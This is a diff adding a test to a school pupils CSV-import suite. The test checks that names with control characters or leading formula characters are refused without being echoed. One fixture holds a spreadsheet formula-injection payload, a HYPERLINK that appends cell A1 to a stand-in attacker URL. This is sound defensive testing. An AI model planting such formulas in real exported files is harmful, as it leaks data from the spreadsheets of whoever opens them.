@@ -180,6 +180,36 @@ describe('pupils import', () => {
       }
     });
 
+    it('refuses names with line breaks, control characters or a leading formula character, by line and column, without echoing them', async () => {
+      const store = getStore();
+      const before = await snapshot(store);
+      const file = files.csv([
+        PUPIL_HEADER,
+        pupilRow(UPNS[0]!, 990001, { legal_forename: '"Ann\nMarie"' }),
+        pupilRow(UPNS[1]!, 990001, { legal_surname: '"=HYPERLINK(""http://evil.example/?""&A1,""Ashby"")"' }),
+        pupilRow(UPNS[2]!, 990001, { preferred_forename: '+Robbie' }),
+        pupilRow(UPNS[3]!, 990001, { legal_forename: '@Robin' }),
+        pupilRow(UPNS[4]!, 990001, { legal_surname: '-Ashby' }),
+        pupilRow(UPNS[5]!, 990001, { legal_forename: 'Ro\u0000bin' }),
+        pupilRow(UPNS[6]!, 990001, { legal_surname: '"Ash\rby"' }),
+        pupilRow(UPNS[7]!, 990001, { legal_forename: 'Anne-Marie', legal_surname: '"O\'Neill-Smith"' }),
+      ]);
+      const result = await importFile(store, 'pupils', file);
+      const formula = 'starts with =, +, - or @ (a spreadsheet would read it as a formula)';
+      const control = 'contains a line break or another control character';
+      assert.deepEqual(result.errors, [
+        `${file}:2: legal_forename: ${control}`,
+        `${file}:4: legal_surname: ${formula}`,
+        `${file}:5: preferred_forename: ${formula}`,
+        `${file}:6: legal_forename: ${formula}`,
+        `${file}:7: legal_surname: ${formula}`,
+        `${file}:8: legal_forename: ${control}`,
+        `${file}:9: legal_surname: ${control}`,
+      ]);
+      assert.ok(!result.errors.join('\n').match(/HYPERLINK|Robbie|Marie|Ashby/), 'no name in the messages');
+      assert.deepEqual(await snapshot(store), before, 'nothing written');
+    });
+
     it('checks the other UPN rules, dates of birth in the future or too long ago, and empty required values', async () => {
       const store = getStore();
       const file = files.csv([
